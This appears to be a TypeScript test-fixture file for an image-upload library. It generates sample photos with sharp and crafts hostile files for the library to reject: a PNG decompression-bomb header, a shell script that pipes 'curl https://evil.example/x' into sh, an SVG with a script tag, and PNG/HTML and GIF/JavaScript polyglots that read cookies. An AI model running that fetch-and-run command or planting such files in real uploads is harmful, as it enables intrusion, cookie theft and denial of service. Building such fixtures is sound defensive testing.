import { crc32 } from 'node:zlib';
import sharp from 'sharp';

/**
 * Real images for the media tests, made with sharp at run time (nothing binary is checked in), and the hostile
 * files the library must refuse, crafted byte by byte.
 */

/** A smooth colour field of `width`×`height` (gradients compress and resize like a photograph, unlike noise). */
function gradient(width: number, height: number, channels: 3 | 4 = 3): Buffer {
  const pixels = Buffer.alloc(width * height * channels);
  for (let y = 0; y < height; y += 1) {
    for (let x = 0; x < width; x += 1) {
      const at = (y * width + x) * channels;
      pixels[at] = (x * 255) / width;
      pixels[at + 1] = (y * 255) / height;
      pixels[at + 2] = ((x + y) * 127) / (width + height) + 64;
      // A transparent disc in the middle when there is an alpha channel.
      if (channels === 4) pixels[at + 3] = (x - width / 2) ** 2 + (y - height / 2) ** 2 < (height / 4) ** 2 ? 0 : 255;
    }
  }
  return pixels;
}

const raw = (width: number, height: number, channels: 3 | 4 = 3) =>
  sharp(gradient(width, height, channels), { raw: { width, height, channels } });

/** A camera's JPEG: 12 megapixels with EXIF, among it a GPS position, and a camera model. */
export const cameraJpeg = (width = 4000, height = 3000) =>
  raw(width, height)
    .jpeg({ quality: 85 })
    .withExif({
      IFD0: { Make: 'Test Camera', Model: 'Leaky 1', Copyright: 'Someone' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 24/1', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 7/1' },
    })
    .toBuffer();

/** A photograph taken with the camera turned: stored 600×400, shown upright 400×600 (EXIF orientation 6). */
export const turnedJpeg = () => raw(600, 400).jpeg().withMetadata({ orientation: 6 }).toBuffer();

/** A wide-gamut image: its ICC profile (Display P3) must be converted to sRGB and dropped. */
export const displayP3Png = () => raw(300, 200).png().withIccProfile('p3').toBuffer();

export const alphaPng = (width = 700, height = 500) => raw(width, height, 4).png().toBuffer();
/** An alpha channel opaque everywhere (a screenshot saved with one): the fallback is JPEG all the same. */
export const opaqueAlphaPng = () =>
  sharp({ create: { width: 500, height: 300, channels: 4, background: '#336699ff' } })
    .png()
    .toBuffer();
export const smallGif = () => raw(400, 300).gif().toBuffer();
export const smallWebp = () => raw(800, 600).webp().toBuffer();
export const smallAvif = () => raw(330, 220).avif({ effort: 0 }).toBuffer();

/** A PNG chunk: length, type, data, CRC over type and data. */
function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/**
 * A decompression bomb's header: a valid PNG signature and IHDR claiming `width`×`height` RGB pixels, then a tiny
 * IDAT and IEND. A few dozen bytes that would decode to gigabytes.
 */
export function claimingPng(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', Buffer.from([0x78, 0x9c, 0x03, 0x00, 0x00, 0x00, 0x00, 0x01])),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A shell script, whatever name and type it is sent with. */
export const script = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');

export const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>',
);

/** A valid PNG that is also an HTML page with a script (appended after IEND, where image readers stop). */
export const polyglot = async () =>
  Buffer.concat([
    await alphaPng(64, 64),
    Buffer.from('<html><body><script>alert(document.cookie)</script></body></html>'),
  ]);

/** The classic GIF/JavaScript polyglot: a GIF header that a script engine reads as an assignment. */
export const gifScript = Buffer.from('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(document.cookie);//');

/** The first half of a real JPEG: the header is whole, the pixels stop. */
export const truncatedJpeg = async () => {
  const whole = await cameraJpeg(800, 600);
  return whole.subarray(0, whole.length / 2);
};
